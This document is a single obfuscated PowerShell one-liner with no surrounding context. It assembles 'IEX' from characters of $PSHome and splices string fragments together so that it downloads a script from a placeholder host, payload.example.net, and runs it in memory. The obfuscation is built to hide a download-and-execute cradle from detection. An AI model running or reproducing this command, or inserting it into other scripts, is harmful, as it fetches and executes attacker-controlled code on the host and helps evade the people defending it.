& ( $PSHome[4]+$PSHome[30]+'x') ((('IE'+'X (N'+'ew-Object Ne'+'t.WebClient).Do'+'wnl'+'oadString({0}http'+'s://'+'payload.example.net/a{0})') -f [char]39))
